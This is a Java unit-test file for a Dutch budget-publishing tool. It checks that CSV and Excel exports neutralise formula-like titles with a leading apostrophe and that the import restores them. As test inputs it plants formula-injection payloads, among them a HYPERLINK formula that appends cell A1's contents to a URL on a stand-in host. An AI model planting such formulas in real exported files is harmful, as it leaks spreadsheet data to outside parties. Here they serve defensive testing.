package nl.begroot.publish;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import nl.begroot.core.model.Amounts;
import nl.begroot.core.model.Budget;
import nl.begroot.core.model.Proposal;
import nl.begroot.render.CsvText;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Text from users never becomes a formula in a spreadsheet: in the open data's CSV a title that
 * starts with =, +, -, @, a tab or a carriage return is written with a leading apostrophe (and
 * quoted where needed), while amounts, also negative ones, stay plain numbers; in the workbook such
 * a title is a text cell with the same leading apostrophe (so that editing the cell does not make it
 * a formula either), which the proposals import takes off again.
 */
class FormulaInjectionTest {
  static final String HYPERLINK = "=HYPERLINK(\"https://example.org/x?\"&A1,\"Klik hier\")";
  static final List<String> TITLES = List.of(HYPERLINK, "+31 lijn", "-SUM(A1:A9)", "@cmd", "\tverborgen", "\rterug", "'=al met apostrof");
  static Budget budget;

  @BeforeAll
  static void plant() {
    List<Proposal> proposals = new ArrayList<>(Ipo.BUDGET.proposals());
    int planted = 0;
    for (int i = 0; i < proposals.size() && planted < TITLES.size(); i++) {
      Proposal p = proposals.get(i);
      if (p.rule() != Proposal.Rule.ENTERED) {
        continue;
      }
      Amounts amounts = p.amounts();
      if (planted == 0) { // the hyperlink line also gets a negative amount in its first year
        Amounts.Builder b = Amounts.builder(amounts.size());
        for (int y = 0; y < amounts.size(); y++) {
          if (amounts.kind(y) == Amounts.Kind.AMOUNT) {
            b.amount(y, y == 0 ? -123_456 : amounts.cents(y));
          } else if (amounts.kind(y) == Amounts.Kind.PM) {
            b.pm(y);
          }
        }
        amounts = b.build();
      }
      proposals.set(i, new Proposal(p.id(), p.units(), TITLES.get(planted), p.side(), p.nature(), p.category(), p.products(), amounts,
          p.rule(), p.passThrough(), p.passThroughItems(), p.thirdParty(), p.group(), p.breakdown(), p.explanation()));
      planted++;
    }
    budget = Ipo.BUDGET.withProposals(proposals);
  }

  static String csv() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Publisher.fiscalDataPackage(Publication.of(budget), out);
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(out.toByteArray()))) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        if (e.getName().equals(FiscalDataPackage.LINES)) {
          return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
      }
    }
    throw new AssertionError("no " + FiscalDataPackage.LINES);
  }

  @Test
  void theOpenDataCsvWritesFormulaLikeTitlesAsTextAndNegativeAmountsAsNumbers() throws IOException {
    String csv = csv();
    assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://example.org/x?\"\"&A1,\"\"Klik hier\"\")\",")
        .contains(",'+31 lijn,").contains(",'-SUM(A1:A9),").contains(",'@cmd,").contains(",'\tverborgen,").contains(",\"'\rterug\",");
    // no field anywhere starts with a formula character unless it is a number
    for (String line : csv.split("\r\n")) {
      for (String field : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
        String unquoted = field.startsWith("\"") ? field.substring(1) : field;
        if (!unquoted.isEmpty() && "=+-@\t\r".indexOf(unquoted.charAt(0)) >= 0) {
          assertThat(unquoted).as("a field that starts with a formula character is a number").matches("-\\d+\\.\\d{2}");
        }
      }
    }
    String hyperlinkLine = csv.lines().filter(l -> l.contains("HYPERLINK")).findFirst().orElseThrow();
    assertThat(hyperlinkLine).contains(",-1234.56,"); // the negative amount of the first year, a number as before
  }

  @Test
  void theCsvFieldKeepsOrdinaryTextAsItIs() {
    assertThat(CsvText.field("Beleid, uitvoering")).isEqualTo("\"Beleid, uitvoering\"");
    assertThat(CsvText.field("Bijdrage 2027")).isEqualTo("Bijdrage 2027");
    assertThat(CsvText.field("e-mail = post")).isEqualTo("e-mail = post");
    assertThat(CsvText.field("")).isEmpty();
  }

  @Test
  void theWorkbookWritesFormulaLikeTitlesAsTextCells() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Publisher.xlsx(Publication.of(budget), out);
    int found = 0;
    try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      for (Sheet sheet : wb) {
        for (Row row : sheet) {
          for (var cell : row) {
            if (cell.getCellType() == CellType.STRING && TITLES.contains(cell.getStringCellValue())) {
              Assertions.fail(sheet.getSheetName() + "!" + cell.getAddress() + ": formula-like text without its apostrophe");
            }
            if (cell.getCellType() == CellType.STRING && !cell.getStringCellValue().isEmpty()
                && TITLES.contains(cell.getStringCellValue().substring(1))) {
              assertThat(cell.getStringCellValue()).startsWith("'");
              found++;
            }
            if (cell.getCellType() == CellType.FORMULA) {
              assertThat(cell.getCellFormula()).as("a formula of the workbook itself").doesNotContain("HYPERLINK").doesNotContain("SUM(A1:A9)");
            }
          }
        }
      }
    }
    assertThat(found).as("each planted title as a text cell at least once").isGreaterThanOrEqualTo(TITLES.size());
  }

  @Test
  void theProposalsImportTakesTheApostropheOffAgain() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Publisher.xlsx(Publication.of(budget), out);
    ProposalImport.Result result = Publisher.importProposals(new ByteArrayInputStream(out.toByteArray()), budget);
    assertThat(result).isInstanceOf(ProposalImport.Imported.class);
    List<String> titles = ((ProposalImport.Imported) result).proposals().stream().map(Proposal::title).toList();
    assertThat(titles).contains(HYPERLINK, "+31 lijn", "-SUM(A1:A9)", "@cmd", "'=al met apostrof").noneMatch(t -> t.startsWith("'") && !t.startsWith("'=al"));
  }

  @Test
  void inertAndRestoreAreInverse() {
    for (String s : List.of("=1", "'=1", "''=1", "'s-Hertogenbosch", "gewoon", "", "'", "-5", "@")) {
      assertThat(CsvText.restore(CsvText.inert(s))).as(s).isEqualTo(s);
    }
    assertThat(CsvText.inert("'s-Hertogenbosch")).isEqualTo("'s-Hertogenbosch");
    assertThat(CsvText.inert("'=1")).isEqualTo("''=1");
  }
}
